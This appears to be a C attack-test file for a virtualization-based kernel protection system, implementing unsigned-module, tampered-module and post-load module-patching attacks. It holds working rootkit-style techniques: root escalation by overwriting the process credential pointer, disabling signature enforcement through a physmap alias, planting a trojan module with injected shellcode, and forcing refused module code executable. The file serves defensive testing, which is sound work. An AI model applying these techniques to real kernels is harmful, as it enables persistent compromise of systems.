/*
 * Kernel modules (docs/attacks.md, family 8): load a module nobody signed, load a signed module whose
 * bytes were changed, and patch a verified module after it was loaded.
 *
 * The attacker first becomes root (init_module needs it) by pointing current->cred at the root
 * credentials: the pointer in struct proc is ordinary writable data (KDP protects the templates, not
 * the per-process pointer: docs/guest.md).  VTL0's own signature check (vbs.module_sig_enforce, in
 * ro_after_init) is switched off through the physmap alias: that is what defeats a kernel that
 * enforces signatures on its own.  With HVCI the check that matters is VTL1's: it verifies the
 * signature and compares VTL0's linked pages with its own link before the module text becomes
 * executable in the NPT, and keeps that text read-only afterwards.
 *
 * The module is a trojan: hello.ko (read from /lib/modules) with hello_hook() replaced by the
 * shellcode of inject.c; it is planted as /lib/modules/{unsigned,tampered}.ko by pointing that file's
 * entry at the attacker's buffer (the file table is ro_after_init, written through the physmap).
 */
#include "vbs/user/ulib.h"

/* inject.c */
u64 uk_pml4(void);
u64 uk_pte(u64 pml4, u64 va, int *level);
u64 uk_phys(u64 pml4, u64 va);
void uk_make_exec(u64 pml4, u64 va);
extern const u8 uk_shellcode[16];
#define INJECT_MAGIC 0x5eedc0deull
#define INJECT_NONCE 0x4a11c0de00c0ffeeull

/* ---- helpers shared with data.c ---- */

/* uid 0 through the unprotected per-process pointer: current->cred = cred_root */
void uk_become_root(void)
{
    u64 cur = kread(ksym("current")), root = kread(ksym("cred_root"));
    if (!cur || !root)
        attack_error("missing symbols");
    kwrite(cur + __builtin_offsetof(struct proc, cred), root);
    long uid = u_getuid();
    if (uid != 0)
        attack_error("could not become root (uid %ld)", uid);
    u_printf("  attack: uid 0 (current->cred = cred_root 0x%lx)\n", root);
}

/* Does the NUL-terminated kernel string at addr equal s? (read with the driver) */
bool uk_streq(u64 addr, const char *s)
{
    size_t n = strlen(s) + 1;
    for (size_t o = 0; o < n; o += 8) {
        u64 w = kread(addr + o);
        size_t k = n - o < 8 ? n - o : 8;
        if (memcmp(&w, s + o, k))
            return false;
    }
    return true;
}

/* The kernel address of the file-table entry for path (files_table, n_files from kallsyms), or 0. */
u64 uk_file_entry(u64 files_table, u64 n_files_addr, const char *path)
{
    int n = (int)(u32)kread(n_files_addr);
    for (int i = 0; i < n && i < 32; i++) {
        u64 e = files_table + (u64)i * sizeof(struct file);
        u64 p = kread(e + __builtin_offsetof(struct file, path));
        if (p && uk_streq(p, path))
            return e;
    }
    return 0;
}

/* Rewrite a field of a file-table entry: ro_after_init, read-only in VTL0's page tables, so through the
 * physmap alias (the kernel is identity mapped: pa == va). */
void uk_file_set(u64 entry, u64 field_off, u64 value)
{
    kwrite(PHYSMAP_BASE + entry + field_off, value);
}

/* ---- the module image (ELF64 relocatable) ---- */
struct modimg {
    u8 *buf;
    u64 len, signed_len; /* signed_len: the ELF bytes before the signature trailer (0: none) */
    u64 hook_file_off;   /* hello_hook's bytes in the file */
    u64 hook_mod_off;    /* hello_hook in the loaded module: .text comes first in the text pages */
};

static u64 rd(const u8 *p, int n)
{
    u64 v = 0;
    memcpy(&v, p, (size_t)n);
    return v;
}

/* Read /lib/modules/hello.ko into buf (up to max bytes) and find hello_hook through the symbol table. */
static void read_hello(struct modimg *m, u8 *buf, u64 max)
{
    long fd = u_open("/lib/modules/hello.ko");
    if (fd < 0)
        attack_error("open hello.ko: %ld", fd);
    long n = u_read(fd, buf, max);
    u_close(fd);
    if (n <= 0x40 || (u64)n >= max || memcmp(buf, "\177ELF", 4))
        attack_error("read hello.ko: %ld bytes", n);
    m->buf = buf;
    m->len = (u64)n;
    const char *trailer = VBS_MODSIG_MAGIC;
    m->signed_len = 0;
    if (m->len > VBS_MODSIG_MAGIC_LEN + sizeof(struct vbs_modsig) &&
        !memcmp(buf + m->len - VBS_MODSIG_MAGIC_LEN, trailer, VBS_MODSIG_MAGIC_LEN))
        m->signed_len = m->len - VBS_MODSIG_MAGIC_LEN - sizeof(struct vbs_modsig);
    u64 shoff = rd(buf + 0x28, 8), shnum = rd(buf + 0x3c, 2), shstrndx = rd(buf + 0x3e, 2);
    const u8 *sh = buf + shoff;
    const u8 *shstr = buf + rd(sh + shstrndx * 64 + 24, 8);
    u64 text_idx = 0;
    for (u64 i = 0; i < shnum; i++)
        if (!strcmp((const char *)shstr + rd(sh + i * 64, 4), ".text"))
            text_idx = i;
    for (u64 i = 0; i < shnum; i++) {
        if (rd(sh + i * 64 + 4, 4) != 2) /* SHT_SYMTAB */
            continue;
        const u8 *sym = buf + rd(sh + i * 64 + 24, 8);
        u64 nsym = rd(sh + i * 64 + 32, 8) / 24;
        const char *str = (const char *)buf + rd(sh + rd(sh + i * 64 + 40, 4) * 64 + 24, 8);
        for (u64 k = 0; k < nsym; k++, sym += 24)
            if (!strcmp(str + rd(sym, 4), "hello_hook") && rd(sym + 6, 2) == text_idx && text_idx) {
                m->hook_mod_off = rd(sym + 8, 8);
                m->hook_file_off = rd(sh + text_idx * 64 + 24, 8) + m->hook_mod_off;
                return;
            }
    }
    attack_error("hello_hook not found in hello.ko");
}

/* The kernel address of hello_hook in the module area: the first mapped module page whose bytes at the
 * hook's offset are `want` (modules are laid out one after the other from MODULE_BASE). */
static u64 find_hook(u64 pml4, u64 hook_off, u64 want)
{
    for (u64 p = MODULE_BASE; p < MODULE_BASE + MODULE_SIZE; p += 4096) {
        if (!uk_pte(pml4, p, NULL))
            break;
        if (kread(p + hook_off) == want)
            return p + hook_off;
    }
    return 0;
}

static NORETURN void judge_hook(u64 hook, const char *what)
{
    long r = kcall(hook, INJECT_NONCE); /* the kernel calls the module's hook */
    if ((u64)r == (INJECT_NONCE ^ INJECT_MAGIC))
        attack_succeeded("%s: the trojan hook at 0x%lx ran attacker code in the kernel (returned 0x%lx)", what, hook,
                         (u64)r);
    attack_blocked("%s: hook at 0x%lx returned 0x%lx", what, hook, (u64)r);
}

/*
 * module-unsigned / module-tampered: as rootkits that load their own driver (e.g. Diamorphine or
 * Reptile via insmod, with module.sig_enforce off or a kernel without it): root, VTL0's signature
 * enforcement off, then init_module of the trojan (without its signature trailer: unsigned; with
 * hello.ko's trailer, which no longer matches: tampered).  If the kernel refuses, the attacker runs the
 * linked code anyway: the loader already copied and linked it into the module area before asking VTL1,
 * so it only has to make the page executable in VTL0's page tables and call it.
 */
static NORETURN void trojan_module(bool keep_signature)
{
    const char *name = keep_signature ? "tampered" : "unsigned";
    const char *path = keep_signature ? "/lib/modules/tampered.ko" : "/lib/modules/unsigned.ko";
    u64 pml4 = uk_pml4(), vbs_addr = ksym("vbs"), ft = ksym("files_table"), nf = ksym("n_files");
    if (!vbs_addr || !ft || !nf)
        attack_error("missing symbols");
    uk_become_root(); /* the last kallsyms lookup: the image goes where ksym() reads the symbol table */

    /* VTL0's own check: vbs.module_sig_enforce = false (ro_after_init: through the physmap alias) */
    u64 off = __builtin_offsetof(struct vbs_state, module_sig_enforce), w = (vbs_addr + off) & ~7ull;
    u64 v = kread(w), nv = v & ~(0xffull << (8 * ((vbs_addr + off) & 7)));
    kwrite(PHYSMAP_BASE + w, nv);
    u_printf("  attack: vbs.module_sig_enforce at 0x%lx cleared through the physmap (0x%lx -> 0x%lx)\n", vbs_addr + off,
             v, kread(w));

    /* the trojan: hello.ko with hello_hook replaced by the shellcode */
    struct modimg m;
    read_hello(&m, (u8 *)U_SCRATCH, 0x3000);
    if (!m.signed_len)
        attack_error("hello.ko has no signature trailer?");
    memcpy(m.buf + m.hook_file_off, uk_shellcode, 16);
    u64 len = keep_signature ? m.len : m.signed_len;
    u64 pa = uk_phys(pml4, (u64)m.buf);
    if (pa == ~0ull || uk_phys(pml4, (u64)m.buf + 0x1000) != pa + 0x1000 || uk_phys(pml4, (u64)m.buf + 0x2000) != pa + 0x2000)
        attack_error("my buffer is not physically contiguous");
    u64 e = uk_file_entry(ft, nf, path);
    if (!e)
        attack_error("%s not in the file table", path);
    /* plant it: the kernel reads it through its identity map of the page pool (pa == kernel va) */
    uk_file_set(e, __builtin_offsetof(struct file, data), pa);
    uk_file_set(e, __builtin_offsetof(struct file, size), len);
    u_printf("  attack: trojan (%lu bytes, %s) planted as %s: data 0x%lx; hello_hook at +0x%lx\n", len,
             keep_signature ? "hello.ko's signature kept: it no longer matches" : "no signature", path, pa,
             m.hook_mod_off);

    long r = u_init_module(name);
    u64 want = *(const u64 *)uk_shellcode;
    if (r == 0) {
        u64 hook = find_hook(pml4, m.hook_mod_off, want);
        if (!hook)
            attack_error("%s loaded but its hook is not in the module area", name);
        u_printf("  attack: init_module(\"%s\") = 0: the kernel accepted it\n", name);
        judge_hook(hook, keep_signature ? "tampered module loaded" : "unsigned module loaded");
    }
    /* refused: run the code the loader linked anyway */
    u64 hook = find_hook(pml4, m.hook_mod_off, want);
    u_printf("  attack: init_module(\"%s\") = %ld (refused); the linked trojan is at 0x%lx: making it executable\n",
             name, r, hook);
    if (!hook)
        attack_blocked("init_module refused (%ld) and the code is not in the module area", r);
    uk_make_exec(pml4, hook);
    judge_hook(hook, "refused module run anyway"); /* with HVCI: GpaIntercept (execute) on the module page */
}

static int attack_module_unsigned(const char *args)
{
    (void)args;
    trojan_module(false);
}
UATTACK("module-unsigned", attack_module_unsigned);

static int attack_module_tampered(const char *args)
{
    (void)args;
    trojan_module(true);
}
UATTACK("module-tampered", attack_module_tampered);

/*
 * module-patch: patch a verified module after load (a rootkit hooking a signed driver's code in
 * memory; the "patch the code after the signature check" step HVCI exists for): load hello.ko, find
 * its hook, rewrite it through the physmap alias of its text page, have the kernel call it.
 */
static int attack_module_patch(const char *args)
{
    (void)args;
    u64 pml4 = uk_pml4();
    uk_become_root();
    struct modimg m;
    read_hello(&m, (u8 *)U_SCRATCH, 0x3000);
    u64 orig = rd(m.buf + m.hook_file_off, 8);
    long r = u_init_module("hello");
    if (r)
        attack_error("init_module(\"hello\") = %ld", r);
    u64 hook = find_hook(pml4, m.hook_mod_off, orig);
    if (!hook)
        attack_error("hello_hook not found in the module area");
    long before = kcall(hook, 20);
    u_printf("  attack: hello.ko loaded (signed, verified); hello_hook at 0x%lx: hook(20) = %ld; patching it through "
             "the physmap alias 0x%lx\n", hook, before, (u64)(PHYSMAP_BASE + hook));
    const u64 *sc = (const u64 *)uk_shellcode;
    kwrite(PHYSMAP_BASE + hook, sc[0]); /* with HVCI: GpaIntercept (write) on the module text: #GP, killed */
    kwrite(PHYSMAP_BASE + hook + 8, sc[1]);
    if (kread(hook) != sc[0])
        attack_blocked("module text unchanged (0x%lx)", kread(hook));
    judge_hook(hook, "verified module patched after load");
}
UATTACK("module-patch", attack_module_patch);
